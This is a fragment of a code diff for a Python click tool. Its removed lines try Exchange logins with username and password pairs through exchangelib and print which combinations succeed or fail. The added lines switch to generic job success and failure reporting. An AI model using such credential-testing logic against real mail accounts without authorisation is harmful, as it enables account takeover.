+                failed += 1
+                click.secho(f'[-] {job.name} skipped, {error}', fg='red')
             else:
-                # pylint: disable=unused-variable
-                account = Account(username, credentials=credentials, autodiscover=True)
-            click.secho(
-                f'[+] Success {username}:{password}', fg='green')
-        except exchangelib.errors.UnauthorizedError:
-            click.secho(
-                f'[-] Failure {username}:{password} - exchangelib.errors.UnauthorizedError', dim=True, fg='red')
-        except exchangelib.errors.TransportError:
-            click.secho(
-                f'[-] Failure {username}:{password} - exchangelib.errors.TransportError', dim=True, fg='red')
+                failed += 1
+                message = error.format_message() if isinstance(error, click.ClickException) else error
+                click.secho(f'[-] {job.name} failed: {message}', fg='red')
+
+    click.secho(f'[*] {len(jobs) - failed} of {len(jobs)} jobs done in {time.monotonic() - start:.1f}s',
+                fg='yellow')
     click.secho(f'-------------------------------------\n', dim=True)
+    if failed:
+        raise click.exceptions.Exit(1)
 
 
 if __name__ == '__main__':